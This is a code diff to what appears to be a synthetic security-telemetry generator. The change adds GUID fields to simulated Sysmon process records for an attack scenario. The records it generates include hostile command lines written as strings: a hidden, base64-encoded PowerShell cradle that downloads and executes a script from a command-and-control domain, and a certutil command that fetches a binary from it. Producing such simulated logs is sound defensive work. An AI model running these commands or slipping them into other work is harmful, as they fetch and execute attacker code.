@@ -56,7 +56,10 @@ export function runPayload(w: StoryWriter, start_ms: number, rdp_logon_id: strin
   const cradle = `IEX (New-Object Net.WebClient).DownloadString('http://${c2_domain}/s')`;
   const psCommand = `"${powershell.path}" -nop -w hidden -enc ${Buffer.from(cradle, 'utf16le').toString('base64')}`;
   const psPid = pid(w);
+  const psGuid = w.ctx.rng.windowsGuid();
+  // The RDP session has its own logon and its own explorer.exe.
   const common = {
+    logon_guid: w.ctx.rng.windowsGuid(),
     record_id: 0,
     computer: ws.name,
     user_domain: AD_DOMAIN,
@@ -69,7 +72,7 @@ export function runPayload(w: StoryWriter, start_ms: number, rdp_logon_id: strin
 
   w.add('suspicious_process', sysmonProcessCreateRecord(w.ctx, {
     ...common, ts: start_ms, image: powershell, command_line: psCommand, current_directory: home,
-    pid: psPid, parent_image: explorer, parent_command_line: 'C:\\Windows\\Explorer.EXE', parent_pid: pid(w),
+    pid: psPid, process_guid: psGuid, parent_image: explorer, parent_command_line: 'C:\\Windows\\Explorer.EXE', parent_pid: pid(w), parent_guid: w.ctx.rng.windowsGuid(),
   }));
   workstationLookup(w, 'suspicious_process', start_ms + 900, c2_domain, c2_ip);
   flowFromC2(w, 'suspicious_process', start_ms + 2_100, 80, w.ctx.rng.range(4_000, 8_000));
@@ -78,14 +81,14 @@ export function runPayload(w: StoryWriter, start_ms: number, rdp_logon_id: strin
   w.add('suspicious_process', sysmonProcessCreateRecord(w.ctx, {
     ...common, ts: certutilAt, image: certutil,
     command_line: `certutil.exe -urlcache -split -f http://${c2_domain}/a/update.bin ${dropped}`,
-    current_directory: home, pid: pid(w), parent_image: powershell, parent_command_line: psCommand, parent_pid: psPid,
+    current_directory: home, pid: pid(w), parent_image: powershell, parent_command_line: psCommand, parent_pid: psPid, parent_guid: psGuid,
   }));
   flowFromC2(w, 'suspicious_process', certutilAt + 1_600, 80, w.ctx.rng.range(350_000, 420_000));
 
   const payloadAt = start_ms + 55_000;
   w.add('suspicious_process', sysmonProcessCreateRecord(w.ctx, {
     ...common, ts: payloadAt, image: droppedImage(dropped), command_line: `"${dropped}"`,
-    current_directory: home, pid: pid(w), parent_image: powershell, parent_command_line: psCommand, parent_pid: psPid,
+    current_directory: home, pid: pid(w), parent_image: powershell, parent_command_line: psCommand, parent_pid: psPid, parent_guid: psGuid,
   }));
   return payloadAt;
 }
